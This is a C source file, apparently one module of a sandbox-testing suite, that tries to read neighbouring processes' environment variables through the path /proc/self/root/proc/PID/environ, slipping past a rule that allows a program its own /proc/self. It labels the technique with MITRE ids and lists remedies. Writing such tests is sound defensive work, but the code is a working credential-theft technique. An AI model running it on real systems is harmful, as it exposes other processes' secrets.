// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, past a rule that lets a program have its own /proc/self.
 * Means: /proc/self/root is a door to the root folder, so every path of the system can be written
 *        with that prefix: /proc/self/root/proc/PID/environ.
 */
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>
#include <stdio.h>

static bool rob(pid_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/self/root/proc/%d/environ", pid);
	return loot_environ(open(path, O_RDONLY | O_CLOEXEC));
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("/proc/self/root/proc/PID/environ");
}

const struct attack attack = {
	.effect = "the worker's environment is read through /proc",
	.means = "/proc/self/root/proc/PID/environ: who allows /proc/self allows all",
	.oracle = "secret:environ",
	.id = "PROC-08",
	.attack_id = "T1057, T1003.007, CWE-22",
	.remedy = "Landlock without /proc; a worker that is not dumpable; a pid namespace",
	.refs = (const char *const[]){ "proc(5)", NULL },
	.run = run,
};
